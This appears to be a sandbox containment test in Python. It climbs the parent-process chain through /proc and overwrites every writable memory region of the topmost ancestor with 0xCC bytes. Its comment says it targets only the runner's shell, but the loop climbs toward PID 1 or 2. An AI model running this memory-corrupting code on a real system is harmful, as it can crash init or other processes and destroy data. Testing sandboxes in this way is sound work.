# writes over the memory of the shell that runs the steps: it may fall, nobody else may
from box import *
pid = os.getppid()
while pid > 2:
    pid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1]) or 2
try:
    with open(f"/proc/{pid}/mem", "r+b", 0) as mem:
        for line in open(f"/proc/{pid}/maps"):
            span, rights = line.split()[:2]
            if rights[1] != "w":
                continue
            low, high = (int(part, 16) for part in span.split("-"))
            mem.seek(low)
            mem.write(b"\xcc" * (high - low))
except OSError as error:
    print(error)
end()
